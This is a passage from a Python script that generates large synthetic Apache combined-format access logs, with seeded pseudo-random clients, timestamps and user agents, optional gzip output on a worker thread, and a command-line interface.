            z = ((z ^ (z >> 27)) * 0x94D049BB133111EB) & M64
            a = z ^ (z >> 31)
            state = (state + GOLDEN) & M64
            z = state
            z = ((z ^ (z >> 30)) * 0xBF58476D1CE4E5B9) & M64
            z = ((z ^ (z >> 27)) * 0x94D049BB133111EB) & M64
            b = z ^ (z >> 31)

            t_us += ((a & 0xFFF) * 2 * mean_us) >> 12
            sec = t_us // 1_000_000
            if sec != last_sec:
                last_sec, stamp = sec, clf_time(sec * 1000)
            if distinct:                 # every client of the pool once, in order
                rank = (written_lines + len(out)) % clients
            elif (a >> 12) & 0xFF < 51:  # 20%: the long tail, uniform over all clients
                rank = (b * clients) >> 64
            else:                        # 80%: log-uniform rank, many repeats of few clients
                k = (((a >> 20) & 0xFF) * buckets) >> 8
                lo = (1 << k) - 1
                hi = min((1 << (k + 1)) - 1, clients)
                rank = lo + (((b & 0xFFFFFFFF) * (hi - lo)) >> 32)
            if rank < HEAD_CLIENTS:
                client, ua = head[rank], head_ua[rank]
            else:
                client, ua = large_client(rank, key), ua_table[mix64(rank ^ ~key & M64) % n_ua]
            out.append(f'{client} - - [{stamp}] {requests[((a >> 28) & 0xFFFFF) * n_req >> 20]} '
                       f'"{referers[(a >> 48) & 15]}" "{ua}"\n')
        chunk = "".join(out)
        count = len(out)
        if written_bytes + len(chunk) > budget_bytes:  # the last chunk: keep the whole lines that fit
            chunk = chunk[:chunk.rfind("\n", 0, budget_bytes - written_bytes + 1) + 1]
            count = chunk.count("\n")
            budget_bytes = written_bytes  # and stop after it
        if chunk:
            yield chunk
        written_lines += count
        written_bytes += len(chunk)


def write_large(args):
    if args.lines is None and args.bytes is None:
        raise SystemExit("large mode needs --lines N or --bytes SIZE")
    if not 1 <= args.clients <= 10_000_000:
        raise SystemExit("--clients must be between 1 and 10000000")
    max_bytes = parse_size(args.bytes) if args.bytes is not None else None
    chunks = large_lines(args.seed, args.clients, args.lines, max_bytes, args.distinct_clients)
    raw = sys.stdout.buffer if args.out == "-" else open(args.out, "wb")
    try:
        if args.gzip:
            write_gzip_stream(raw, chunks)
        else:
            for chunk in chunks:
                raw.write(chunk.encode("ascii"))
    finally:
        if raw is not sys.stdout.buffer:
            raw.close()
        else:
            raw.flush()


def write_gzip_stream(raw, chunks, level=6):
    """gzip on a second thread: zlib releases the GIL, so generating and compressing overlap."""
    pending = queue.Queue(maxsize=8)

    def compress():
        with gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0, compresslevel=level) as gz:
            while (data := pending.get()) is not None:
                gz.write(data)

    worker = threading.Thread(target=compress)
    worker.start()
    try:
        for chunk in chunks:
            pending.put(chunk.encode("ascii"))
    finally:
        pending.put(None)
        worker.join()


# ---------------------------------------------------------------------------------------------
# MARK: Command line
# ---------------------------------------------------------------------------------------------


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                     formatter_class=argparse.RawDescriptionHelpFormatter, epilog=__doc__)
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED, help=f"PRNG seed (default {DEFAULT_SEED})")
    parser.add_argument("--out-dir", type=Path, default=Path(__file__).resolve().parent.parent / "SampleLogs",
                        help="where the samples go (default: SampleLogs/ of this repository)")
    parser.add_argument("--format", choices=("combined",), help="large mode: write one log in this format")
    parser.add_argument("--lines", type=int, help="large mode: number of lines")
    parser.add_argument("--bytes", help="large mode: size limit, e.g. 64M or 1G")
    parser.add_argument("--out", help="large mode: output file, '-' for standard output")
    parser.add_argument("--gzip", action="store_true", help="large mode: gzip the output (level 6)")
    parser.add_argument("--clients", type=int, default=200_000, help="large mode: client pool size (default 200000)")
    parser.add_argument("--distinct-clients", action="store_true",
                        help="large mode: line i has client i of the pool (no repeats) instead of a Zipf-like mix")
    args = parser.parse_args(argv)
    if args.format is None:
        if args.lines is not None or args.bytes is not None or args.out is not None:
            parser.error("--lines, --bytes and --out need --format combined")
        write_samples(args.out_dir, args.seed)
    else:
        if args.out is None:
            parser.error("large mode needs --out FILE (or - for standard output)")
        write_large(args)


if __name__ == "__main__":
    main()
